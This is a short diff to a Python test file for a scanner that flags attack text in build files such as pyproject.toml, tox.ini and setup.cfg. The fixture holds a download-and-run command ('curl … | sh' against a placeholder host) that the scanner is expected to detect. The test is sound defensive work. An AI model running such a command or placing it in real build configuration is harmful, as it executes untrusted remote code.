@@ -369,8 +369,8 @@ def test_build_settings_in_pyproject_reference_the_code_that_a_build_runs(read_b
 
 @pytest.mark.parametrize("name", ["pyproject.toml", "tox.ini", "setup.cfg"])
 def test_attack_text_in_build_file_is_recorded(read_bytes, name: str) -> None:
-    (outline,) = read_bytes(b"[tool.a]\nb = 'curl https://a.invalid | sh'\n", name).of(Outline)
-    assert "(download | shell)" in {each.name for each in outline.mentions}
+    outlines = read_bytes(b"[tool.a]\nb = 'curl https://a.invalid | sh'\n", name).of(Outline)
+    assert "(download | shell)" in {each.name for outline in outlines for each in outline.mentions}
 
 
 def _build_notebook(source: str, **metadata: object) -> bytes:
